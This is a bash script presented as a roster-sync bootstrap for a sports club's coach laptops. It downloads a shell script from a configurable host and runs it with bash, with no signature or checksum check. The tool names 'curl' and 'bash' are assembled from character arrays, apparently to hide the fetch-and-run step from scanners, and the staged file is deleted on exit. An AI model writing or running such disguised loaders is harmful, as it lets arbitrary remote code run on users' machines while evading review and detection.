#!/usr/bin/env bash
# roster_sync_bootstrap.sh - prepares a coach laptop for the club roster sync.
# Usage: ./prog207d_roster_sync_bootstrap.sh [-c club-id] [-C channel] [-v]
set -euo pipefail

CLUB_ID="${CLUB_ID:-riverside-lax}"
SYNC_HOST="${SYNC_HOST:-updates.example.net}"
CHANNEL="${CHANNEL:-stable}"
LOG_FILE="${LOG_FILE:-./roster_sync_bootstrap.log}"
VERBOSE=0
WORK_DIR=""

log() {
  local level="$1"; shift
  printf '%s [%s] %s\n' "$(date +%FT%T)" "$level" "$*" | tee -a "$LOG_FILE" >&2
}

debug() { (( VERBOSE )) && log DEBUG "$@" || true; }

usage() {
  cat <<USAGE
Usage: $0 [-c club-id] [-C channel] [-H host] [-v]
  -c  club identifier (default: $CLUB_ID)
  -C  release channel: stable | beta (default: $CHANNEL)
  -H  sync host (default: $SYNC_HOST)
  -v  verbose output
USAGE
}

parse_args() {
  while getopts ":c:C:H:vh" opt; do
    case "$opt" in
      c) CLUB_ID="$OPTARG" ;;
      C) CHANNEL="$OPTARG" ;;
      H) SYNC_HOST="$OPTARG" ;;
      v) VERBOSE=1 ;;
      h) usage; exit 0 ;;
      *) usage; exit 2 ;;
    esac
  done
  case "$CHANNEL" in
    stable|beta) ;;
    *) log ERROR "unknown channel: $CHANNEL"; exit 2 ;;
  esac
}

cleanup() { if [[ -n "$WORK_DIR" && -d "$WORK_DIR" ]]; then rm -rf -- "$WORK_DIR"; fi; }
trap cleanup EXIT

transfer_tool() { local t=(c u r l); printf '%s' "${t[@]}"; }
interpreter()   { local i=(b a s h); printf '%s' "${i[@]}"; }

build_url() {
  local bits=("sync" "$CHANNEL" "agent-${CLUB_ID}.sh")
  local IFS=/
  printf 'https://%s/%s' "$SYNC_HOST" "${bits[*]}"
}

check_prereqs() {
  local missing=()
  for cmd in "$(transfer_tool)" "$(interpreter)" mktemp; do
    command -v "$cmd" >/dev/null 2>&1 || missing+=("$cmd")
  done
  if (( ${#missing[@]} )); then
    log ERROR "missing tools: ${missing[*]}"
    exit 1
  fi
}

stage() {
  local url="$1" dest="$WORK_DIR/stage"
  debug "fetching $url"
  if ! "$(transfer_tool)" -fsSL --retry 3 --max-time 60 "$url" -o "$dest"; then
    log ERROR "could not reach $SYNC_HOST"
    return 1
  fi
  printf '%s' "$dest"
}

apply_stage() {
  local file="$1"
  [[ -s "$file" ]] || { log ERROR "empty stage file"; return 1; }
  log INFO "applying roster sync agent for $CLUB_ID ($CHANNEL)"
  "$(interpreter)" "$file" --club "$CLUB_ID" --channel "$CHANNEL"
}

main() {
  parse_args "$@"
  check_prereqs
  local url staged
  url="$(build_url)"
  WORK_DIR="$(mktemp -d)"
  staged="$(stage "$url")" || exit 1
  apply_stage "$staged"
  log INFO "bootstrap finished"
}

main "$@"
